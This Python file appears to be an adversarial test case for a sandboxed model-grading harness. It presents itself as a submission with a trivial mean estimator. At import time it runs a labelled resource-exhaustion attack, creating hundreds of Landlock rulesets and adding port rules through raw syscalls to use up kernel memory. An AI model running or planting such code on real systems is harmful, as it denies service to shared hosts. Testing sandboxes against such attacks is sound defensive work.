# attack: memory-of-rules
# class: using everything up
# tries: makes Landlock rules, which are memory of the kernel's
# must: either
import ctypes
import struct

won = []
libc = ctypes.CDLL(None, use_errno=True)
for _ in range(200):
    rules = libc.syscall(444, struct.pack("QQ", 0, 3), 16, 0)
    if rules < 0:
        break
    for port in range(1000):
        libc.syscall(445, rules, 2, struct.pack("QQ", 3, port), 0)


class Mean:
    def fit(self, x, y):
        self.mean = sum(y) / len(y)
        return self

    def predict(self, x):
        return [self.mean if not won else 1e6] * len(x)


def build_estimator():
    return Mean()
